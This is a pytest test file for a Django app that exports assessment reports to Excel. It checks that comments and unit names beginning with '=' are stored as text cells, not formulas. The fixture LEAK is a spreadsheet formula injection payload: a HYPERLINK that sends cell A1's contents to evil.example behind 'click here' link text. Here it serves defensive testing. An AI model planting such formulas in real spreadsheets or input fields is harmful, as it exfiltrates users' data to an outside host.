"""The PAR Index appendix and the province table are safe to open: a comment or a unit name
that starts like a formula is a text cell (chiso.core.safe_cells), and points stay numbers."""

import io

import pytest
from openpyxl import load_workbook

from chiso.assessments.models import Item
from chiso.assessments.reports import province_xlsx, unit_xlsx

from .conftest import assessment_of

pytestmark = pytest.mark.django_db

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'


def _cells(content: bytes):
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_unit_appendix_writes_a_comment_starting_with_equals_as_text(cycle):
    assessment = assessment_of(cycle, "S-A")
    Item.objects.filter(assessment=assessment, code="F1.1").update(appraisal_comment=LEAK)
    cells = _cells(unit_xlsx(assessment))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert [c.value for c in cells if c.data_type == "s" and c.value.startswith("=")] == [LEAK]
    assert any(c.data_type == "n" for c in cells)  # the maximum points


def test_province_table_writes_a_unit_name_starting_with_equals_as_text(cycle, units):
    units[0].name_vi = "=1+1"
    units[0].save(update_fields=["name_vi"])
    cells = _cells(province_xlsx(cycle))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "=1+1" in {c.value for c in cells if c.data_type == "s"}
